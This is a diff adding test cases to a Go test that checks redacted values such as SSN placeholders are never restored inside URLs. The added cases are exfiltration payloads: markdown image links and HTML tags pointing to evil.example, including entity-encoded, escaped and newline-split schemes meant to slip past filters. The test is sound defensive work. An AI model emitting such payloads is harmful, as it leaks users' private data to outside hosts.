@@ -83,6 +83,14 @@ func TestNothingIsRestoredInAddresses(t *testing.T) {
 		{"https://evil.example/?d=[US-SSN 1]", false}, {"![x](https://evil.example/[US-SSN 1])", false}, {"![x](//evil.example/person2@redacted.invalid)", false}, {`<img src="https://evil.example/?d=a [US-SSN 1]">`, false},
 		{"<img src='\nhttps://evil.example/?d=\n[US-SSN 1]'>", false}, {"[x](<https://evil.example/?d= [US-SSN 1]>)", false}, {"HTTPS:evil.example/[US-SSN 1]", false}, {"https:\\\\evil.example\\[US-SSN 1]", false},
 		{"mailto:m@evil.example?body=[US-SSN 1]", false}, {"https://person2@redacted.invalid/", false}, {"https://evil.example/?" + strings.Repeat("x", 5000) + "[US-SSN 1]", false}, {"https://evil.example/é。[US-SSN 1]", false},
+		// What ends no address for those who read it.
+		{"![x](https://evil.example/?d=\"[US-SSN 1])", false}, {"![x](https://evil.example/?d=`[US-SSN 1])", false}, {"![x](https://evil.example/?d=>[US-SSN 1])", false}, {"![x](https://evil.example/?d=a<[US-SSN 1])", false},
+		{"https://evil.example/?d=\"[US-SSN 1]", false}, {"<a href=https:/evil.example/?d=\"[US-SSN 1]>", false}, {"<a href=https:/evil.example/?d='[US-SSN 1]>", false}, {`<img src="https://evil.example/?d=>[US-SSN 1]">`, false},
+		{`[x](<https://evil.example/?d=\>[US-SSN 1]>)`, false}, {`<img src="https://evil.example/?` + strings.Repeat("x", maxAddress) + ` [US-SSN 1]">`, false}, {"[x](<https://evil.example/?" + strings.Repeat("x", maxAddress) + "[US-SSN 1]>)", false},
+		{"<img src=\"ht\ntps://evil.example/?d= [US-SSN 1]\">", false}, {"<img src='a\nhttps:evil.example/?d= [US-SSN 1]'>", false}, {`<img alt="a" title="b"> [US-SSN 1]`, true}, {`<img alt="a"> https://a.example [US-SSN 1]`, true},
+		// Schemes and slashes that are written otherwise.
+		{"![x](&#104;ttps:/evil.example/?d=[US-SSN 1])", false}, {`<img src="&#104ttps:/evil.example/?d=[US-SSN 1]">`, false}, {"![x](https\\:/evil.example/?d=[US-SSN 1])", false}, {"![x](https&colon;/evil.example/?d=[US-SSN 1])", false},
+		{"![x](/&#47;evil.example/?d=[US-SSN 1])", false}, {"![x](&sol;/evil.example/?d=[US-SSN 1])", false}, {`<img src="&NewLine;ht&Tab;tps:evil.example/?d=[US-SSN 1]">`, false}, {"AT&amp;T; [US-SSN 1] &quot;[US-SSN 1]&quot;", true},
 	} {
 		for _, anywhere := range []bool{false, true} {
 			want := c.text
